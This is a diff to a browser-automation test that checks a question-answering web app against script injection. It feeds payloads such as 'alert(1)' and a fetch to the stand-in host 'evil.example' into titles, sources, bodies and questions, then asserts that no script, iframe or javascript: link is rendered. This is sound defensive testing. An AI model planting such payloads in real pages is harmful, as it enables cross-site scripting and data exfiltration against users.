@@ -47,6 +47,8 @@ PAYLOADS = [
     "${{{call}}}",
 ]
 CALLS = ("alert(1)", "fetch(`http://evil.example`)")
+FOREIGN = "script, img, svg, iframe, style, link, base, form, video, math"
+AT_A_TIME = 10
 PLACES = ("title", "source", "body", "question")
 ALL = [(payload.format(call=call), place) for payload, call in product(PAYLOADS, CALLS) for place in PLACES]
 
@@ -78,15 +80,16 @@ def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
 
 def test_no_payload_of_an_article_or_question_runs_or_loads_anything(opened: Open, hostile: str) -> None:
     tab = opened(url=hostile)
-    for number in range(len(PAYLOADS) * len(CALLS)):
-        tab.ask(f"第{number}号展品共有多少件？")
-    for payload, place in ALL:
-        if place == "question":
-            tab.ask(payload)
-    for button in tab.page.locator("button.cite").all()[:: len(CALLS)]:
-        button.click()
-        tab.page.wait_for_selector("#panel:not([hidden])")
-    assert tab.page.locator("#turns :is(script, img, svg, iframe, style, link, base, form, video, math)").count() == 0
-    assert tab.page.locator("#panel-body :is(script, img, svg, iframe, style, link, base, form, video)").count() == 0
-    assert tab.page.locator("a[href^='javascript:' i]").count() == 0
+    questions = [f"第{number}号展品共有多少件？" for number in range(len(PAYLOADS) * len(CALLS))]
+    questions += [payload for payload, place in ALL if place == "question"]
+    for start in range(0, len(questions), AT_A_TIME):
+        for question in questions[start : start + AT_A_TIME]:
+            tab.ask(question)
+        if tab.page.locator("button.cite").count():
+            tab.page.locator("button.cite").first.click()
+            tab.page.wait_for_selector("#panel:not([hidden])")
+        assert tab.page.locator(f":is(#turns, #panel-body) :is({FOREIGN})").count() == 0
+        assert tab.page.locator("a[href^='javascript:' i]").count() == 0
+        # A long conversation is slow to keep; what it showed has been looked at.
+        tab.page.click("#fresh")
     assert tab.faults == []
